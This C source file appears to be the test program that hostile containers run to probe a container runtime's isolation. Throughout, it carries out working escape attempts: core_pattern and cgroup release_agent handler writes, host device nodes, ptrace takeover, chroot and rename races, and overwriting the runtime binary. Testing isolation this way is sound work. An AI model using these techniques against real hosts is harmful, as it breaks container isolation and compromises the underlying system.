/* The program of the hostile pods. `attack WHAT MARKER …`: MARKER is a folder of the host that no container mounts.
 * Prints one line `escaped: …` for each escape that succeeds, and last what was attempted. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *marker;
static const char *name;

static void escaped(const char *format, ...) {
    va_list list;
    va_start(list, format);
    printf("escaped: ");
    vprintf(format, list);
    printf("\n");
    va_end(list);
}

/* Appends to a file; returns 1 on success. Never creates or truncates one. */
static int append(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file < 0) return 0;
    int written = write(file, text, strlen(text)) > 0;
    close(file);
    return written;
}

/* Returns whether the marker's folder is visible below `prefix`, or is `prefix` itself; creates a file there if so. */
static void look_below(const char *prefix) {
    const char *forms[] = {"%s%s", "%s"};
    char path[4096];
    for (int form = 0; form < 2; form++) {
        snprintf(path, sizeof path, forms[form], prefix, marker);
        size_t length = strlen(path);
        snprintf(path + length, sizeof path - length, "/of-the-host");
        if (access(path, F_OK) == 0) escaped("%s is there", path);
        append(path, "changed\n");
        snprintf(path + length, sizeof path - length, "/by-%s", name);
        int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        /* Writing to the container's own folder is no escape: the host checks its own folder. */
        if (file >= 0) close(file);
    }
}

static void look_around(int count, char **prefixes) {
    const char *usual[] = {"", ".", "..", "../../../../../../../..", "/proc/self/cwd", "/proc/self/root",
                           "/proc/1/root", "/proc/1/cwd", "/proc/self/root/../../../.."};
    for (size_t i = 0; i < sizeof usual / sizeof *usual; i++) look_below(usual[i]);
    for (int i = 0; i < count; i++) look_below(prefixes[i]);
}

/* Escapes through descriptors that were left open. */
static void look_at_descriptors(void) {
    char path[64], target[4096];
    for (int fd = 3; fd < 256; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        escaped("descriptor %d is open: %s", fd, target);
        look_below(path);
    }
}

static void look_at_masks(void) {
    const char *files[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug",
                           "/proc/latency_stats", "/proc/interrupts", "/proc/kmsg"};
    const char *folders[] = {"/proc/acpi", "/proc/asound", "/proc/scsi", "/sys/firmware",
                             "/sys/devices/virtual/powercap"};
    char byte;
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        int file = open(files[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (file < 0) continue;
        if (read(file, &byte, 1) > 0) escaped("%s can be read", files[i]);
        close(file);
    }
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++) {
        DIR *folder = opendir(folders[i]);
        if (!folder) continue;
        for (struct dirent *entry; (entry = readdir(folder));)
            if (entry->d_name[0] != '.') escaped("%s has %s", folders[i], entry->d_name);
        closedir(folder);
    }
}

/* The kernel's files through which the host would run a program or change its behaviour. */
static void write_kernel_files(void) {
    char handler[4096];
    snprintf(handler, sizeof handler, "|%s/handler", marker);
    const struct { const char *path, *text; } files[] = {
        {"/proc/sys/kernel/core_pattern", handler},
        {"/proc/self/root/proc/sys/kernel/core_pattern", handler},
        {"/proc/sys/kernel/modprobe", handler + 1},
        {"/sys/kernel/uevent_helper", handler + 1},
        {"/proc/sysrq-trigger", "h"},
    };
    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        if (append(files[i].path, files[i].text)) escaped("%s was written", files[i].path);
    const char *opened[] = {"/proc/sys/fs/binfmt_misc/register", "/proc/irq/default_smp_affinity", "/proc/bus/input/devices",
                            "/sys/power/state", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/profiling"};
    for (size_t i = 0; i < sizeof opened / sizeof *opened; i++) {
        int file = open(opened[i], O_WRONLY | O_CLOEXEC);
        if (file >= 0) escaped("%s can be written", opened[i]), close(file);
    }
}

/* The file that is mounted over a masked file must not be one of those either. */
static void write_masked_files(void) {
    char handler[4096];
    snprintf(handler, sizeof handler, "|%s/handler", marker);
    const char *masked[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug", "/proc/interrupts",
                            "/dev/null", "/dev/console", "/proc/self/fd/0", "/proc/self/attr/exec"};
    for (size_t i = 0; i < sizeof masked / sizeof *masked; i++) append(masked[i], handler);
    DIR *terminals = opendir("/dev/pts");
    if (!terminals) return;
    for (struct dirent *entry; (entry = readdir(terminals));) {
        char path[512];
        snprintf(path, sizeof path, "/dev/pts/%s", entry->d_name);
        if (entry->d_name[0] != '.' && strcmp(entry->d_name, "ptmx")) append(path, handler);
    }
    closedir(terminals);
}

static void write_cgroups_in(const char *folder) {
    const char *files[] = {"release_agent", "notify_on_release", "cgroup.procs", "tasks", "devices.allow",
                           "cgroup.subtree_control", "memory.max", "memory.limit_in_bytes", "pids.max"};
    char path[1024], handler[4096];
    snprintf(handler, sizeof handler, "%s/handler", marker);
    for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "%s/%s", folder, files[i]);
        int file = open(path, O_WRONLY | O_CLOEXEC);
        if (file < 0) continue;
        escaped("%s can be written", path);
        if (i == 0 && write(file, handler, strlen(handler)) < 0) perror(path);
        close(file);
    }
    snprintf(path, sizeof path, "%s/made", folder);
    if (mkdir(path, 0755) == 0) escaped("%s was made", path), rmdir(path);
}

static void write_cgroups(void) {
    write_cgroups_in("/sys/fs/cgroup");
    DIR *folder = opendir("/sys/fs/cgroup");
    if (!folder) return;
    for (struct dirent *entry; (entry = readdir(folder));) {
        char path[512];
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s", entry->d_name);
        if (entry->d_name[0] != '.' && entry->d_type == DT_DIR) write_cgroups_in(path);
    }
    closedir(folder);
}

/* `disk` is MAJOR:MINOR of a disk of the host. */
static void make_devices(const char *folder, const char *disk) {
    unsigned major_number = 0, minor_number = 0;
    sscanf(disk, "%u:%u", &major_number, &minor_number);
    const struct { const char *name; mode_t type; dev_t device; int flags; } nodes[] = {
        {"disk", S_IFBLK, makedev(major_number, minor_number), O_RDONLY},
        {"mem", S_IFCHR, makedev(1, 1), O_RDONLY},
        {"port", S_IFCHR, makedev(1, 4), O_RDONLY},
        {"kmsg", S_IFCHR, makedev(1, 11), O_RDONLY},
        {"kmsg-write", S_IFCHR, makedev(1, 11), O_WRONLY},
        {"fuse", S_IFCHR, makedev(10, 229), O_RDWR},
        {"loop-control", S_IFCHR, makedev(10, 237), O_RDWR},
    };
    char path[512];
    for (size_t i = 0; i < sizeof nodes / sizeof *nodes; i++) {
        snprintf(path, sizeof path, "%s/%s", folder, nodes[i].name);
        unlink(path);
        if (mknod(path, nodes[i].type | 0666, nodes[i].device) != 0) continue;
        int file = open(path, nodes[i].flags | O_NONBLOCK | O_CLOEXEC);
        if (file >= 0) {
            escaped("device %s can be opened", path);
            if (nodes[i].flags == O_WRONLY) dprintf(file, "knarr %s/handler\n", marker);
            close(file);
        }
        unlink(path);
    }
}

/* The seccomp filter refuses each call before the kernel checks its arguments. */
static void call(const char *what, long result) {
    if (result >= 0 || (errno != EPERM && errno != ENOSYS)) escaped("%s: %s", what, result >= 0 ? "done" : strerror(errno));
}

#define CALL(number, ...) call(#number, syscall(SYS_##number, __VA_ARGS__))

static void change_mounts(void) {
    mkdir("/tmp/at", 0755);
    call("mount tmpfs", mount("none", "/tmp/at", "tmpfs", 0, ""));
    call("mount proc", mount("none", "/tmp/at", "proc", 0, ""));
    call("mount cgroup", mount("none", "/tmp/at", "cgroup", 0, "memory"));
    call("mount cgroup2", mount("none", "/tmp/at", "cgroup2", 0, ""));
    call("bind", mount("/", "/tmp/at", "", MS_BIND | MS_REC, ""));
    call("remount", mount("none", "/proc/sys", "", MS_REMOUNT | MS_BIND, ""));
    call("make shared", mount("none", "/", "", MS_SHARED | MS_REC, ""));
    call("uncover", umount2("/proc/keys", MNT_DETACH));
    call("uncover /proc/sys", umount2("/proc/sys", MNT_DETACH));
    CALL(pivot_root, "/tmp", "/tmp/at");
    CALL(fsopen, "ext4", 0);
    CALL(fsopen, "cgroup2", 0);
    CALL(fspick, AT_FDCWD, "/", 0);
    CALL(fsconfig, -1, 0, "x", "y", 0);
    CALL(fsmount, -1, 0, 0);
    CALL(open_tree, AT_FDCWD, "/", 1);
    CALL(move_mount, AT_FDCWD, "/tmp", AT_FDCWD, "/tmp/at", 0);
    CALL(mount_setattr, AT_FDCWD, "/proc/sys", 0, 0, 0);
}

static void make_namespaces(void) {
    const int flags[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, CLONE_NEWPID, CLONE_NEWIPC, CLONE_NEWUTS, CLONE_NEWCGROUP};
    unsigned long long arguments[11] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
        call("unshare", unshare(flags[i]));
        long child = syscall(SYS_clone, (long)flags[i] | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) _exit(0);
        call("clone", child);
    }
    long child = syscall(SYS_clone3, arguments, sizeof arguments);
    if (child == 0) _exit(0);
    call("clone3", child);
    const char *namespaces[] = {"user", "mnt", "net", "pid", "cgroup"};
    for (size_t i = 0; i < sizeof namespaces / sizeof *namespaces; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/1/ns/%s", namespaces[i]);
        int file = open(path, O_RDONLY | O_CLOEXEC);
        call("setns", setns(file, 0));
        if (file >= 0) close(file);
    }
}

static void call_the_kernel(void) {
    char buffer[64] = {0};
    CALL(open_by_handle_at, AT_FDCWD, buffer, O_RDONLY);
    CALL(bpf, 0, buffer, sizeof buffer);
    CALL(perf_event_open, buffer, 0, -1, -1, 0);
    CALL(init_module, buffer, 0, "");
    CALL(finit_module, -1, "", 0);
    CALL(delete_module, "none", O_NONBLOCK);
    CALL(kexec_load, 0, 0, 0, 0);
    CALL(kexec_file_load, -1, -1, 0, "", 0);
    CALL(add_key, "user", "knarr", "x", 1, -3);
    CALL(keyctl, 0, -3, 0, 0, 0);
    CALL(request_key, "user", "knarr", 0, 0);
    CALL(userfaultfd, 0);
    CALL(io_uring_setup, 0, buffer);
    CALL(swapon, "/none", 0);
    CALL(reboot, 0, 0, 0, 0);
    CALL(acct, 0);
    CALL(iopl, 3);
    CALL(ioperm, 0, 1, 1);
    CALL(syslog, 3, buffer, sizeof buffer);
    CALL(settimeofday, 0, 0);
    CALL(quotactl, 0, 0, 0, 0);
    CALL(fanotify_init, 0, 0);
    CALL(setdomainname, "escaped", 7);
}

/* The oldest escape: chroot to a folder that does not contain the working directory. */
static void leave_by_chroot(void) {
    mkdir("/tmp/jail", 0755);
    if (fork() == 0) {
        if (chroot("/tmp/jail") == 0) {
            for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
            if (chroot(".") == 0) look_around(0, 0);
        }
        fflush(stdout);
        _exit(0);
    }
    wait(0);
}

/* Traces of an image's library that was loaded into a process with write access here. */
static void look_for_loaded(void) {
    if (access("/loaded", F_OK) == 0) escaped("a library of the image was loaded");
}

static int inside(const char *disk) {
    look_around(0, 0);
    look_at_descriptors();
    look_at_masks();
    write_kernel_files();
    write_masked_files();
    write_cgroups();
    make_devices("/tmp", disk);
    make_devices("/dev/shm", disk);
    change_mounts();
    make_namespaces();
    call_the_kernel();
    fflush(stdout);
    leave_by_chroot();
    look_for_loaded();
    puts("tried all");
    return 0;
}

/* Swaps two names as fast as possible, until it is killed. */
static int swap(const char *a, const char *b) {
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}

static unsigned long long permitted(int pid) {
    char path[64], line[256];
    unsigned long long found = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "r");
    while (status && fgets(line, sizeof line, status)) sscanf(line, "CapPrm: %llx", &found);
    if (status) fclose(status);
    return found;
}

#define SYS_PTRACE_RIGHT (1ULL << 19)

/* Stops every process that appears, and inspects its rights, its root, its directory and its descriptors, until it
 * has seen `wanted` processes. With CAP_SYS_PTRACE, this process must see none with more rights than its own; without,
 * it must not be able to trace such a process. */
static int newcomers(int wanted) {
    int next = getpid() + 1, seen = 0, mighty = 0;
    unsigned long long own = permitted(getpid());
    const char *doors[] = {"root", "cwd"};
    char path[512];
    while (seen < wanted) {
        for (int pid = next; pid < next + 40; pid++) {
            if (kill(pid, 0) != 0) continue;
            int stopped = kill(pid, SIGSTOP) == 0;
            next = pid + 1;
            usleep(300);
            seen++;
            if (permitted(pid) & ~own) {
                if (own & SYS_PTRACE_RIGHT) mighty++;
                /* It may have executed its program meanwhile; once it is traced, it cannot. */
                if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && permitted(pid) & ~own)
                    escaped("a process with more rights was taken over");
            }
            for (int door = 0; door < 2; door++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, doors[door]);
                look_below(path);
            }
            for (int fd = 3; fd < 24; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                look_below(path);
            }
            if (stopped) kill(pid, SIGCONT);
        }
        usleep(100);
    }
    if (mighty) escaped("%d processes had more rights", mighty);
    look_for_loaded();
    puts("seen them");
    return 0;
}

/* Switches this process to another root and back for `rounds` seconds, while commands enter the container. */
static int roots(int rounds) {
    int old = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    struct timespec pause = {0, 100000};
    time_t end = time(0) + rounds;
    mkdir("/jail", 0755);
    while (time(0) < end) {
        if (chroot("/jail") != 0) { perror("chroot"); return 1; }
        nanosleep(&pause, 0);
        if (fchdir(old) != 0 || chroot(".") != 0) { perror("back"); return 1; }
        nanosleep(&pause, 0);
    }
    look_around(0, 0);
    puts("swapped them");
    return 0;
}

/* Run by the loader with the runtime's executable open as descriptor 3. A running executable cannot be written to, so
 * a change of its mode shows whether the container could change it. */
static int overwrite(void) {
    char path[64];
    for (int attempt = 0; attempt < 50; attempt++) {
        int file = open("/proc/self/fd/3", O_WRONLY | O_APPEND | O_CLOEXEC);
        if (file >= 0) {
            escaped("the runtime's executable can be written");
            dprintf(file, "knarr-escaped");
            return 1;
        }
        if (errno != ETXTBSY) break;
        usleep(1000);
    }
    int changed = chmod("/proc/self/fd/3", 0757);
    printf("caught it: %s\n", changed == 0 ? "changed" : strerror(errno));
    snprintf(path, sizeof path, "/tmp/caught-%d", getpid());
    int caught = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
    if (caught >= 0) close(caught);
    return 1;
}

/* In a pod with a shared pid namespace: what can be reached through the other processes. */
static int others(void) {
    char path[128], byte[1];
    for (int pid = 1; pid < 64; pid++) {
        const char *doors[] = {"root", "cwd", "fd/0", "fd/3", "fd/5", "fd/7"};
        for (size_t i = 0; i < sizeof doors / sizeof *doors; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, doors[i]);
            look_below(path);
        }
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        if (append(path, "knarr-escaped")) escaped("%s was written", path);
    }
    if (open("/proc/1/root/made", O_WRONLY | O_CREAT, 0644) >= 0) escaped("a file in the root of process 1");
    /* A debugger may inspect process 1, which has no capabilities. */
    int memory = permitted(getpid()) & SYS_PTRACE_RIGHT ? -1 : open("/proc/1/mem", O_RDWR);
    if (memory >= 0 && pread(memory, byte, 1, 0x400000) > 0) escaped("the memory of process 1");
    kill(1, SIGKILL);
    if (kill(1, 0) != 0 && errno == ESRCH) escaped("process 1 is gone");
    puts("looked at them");
    return 0;
}

int main(int count, char **args) {
    if (count < 4) return 2;
    const char *what = args[1];
    name = args[2];
    marker = args[3];
    setbuf(stdout, 0);
    if (!strcmp(what, "inside")) return inside(args[4]);
    if (!strcmp(what, "look")) {
        look_around(count - 4, args + 4);
        look_at_descriptors();
        puts("looked");
        return 0;
    }
    if (!strcmp(what, "masked")) {
        write_kernel_files();
        write_masked_files();
        look_at_masks();
        look_around(0, 0);
        puts("looked");
        return 0;
    }
    if (!strcmp(what, "swap")) return swap(args[4], args[5]);
    if (!strcmp(what, "newcomers")) return newcomers(atoi(args[4]));
    if (!strcmp(what, "roots")) return roots(atoi(args[4]));
    if (!strcmp(what, "overwrite")) return overwrite();
    if (!strcmp(what, "others")) return others();
    return 2;
}
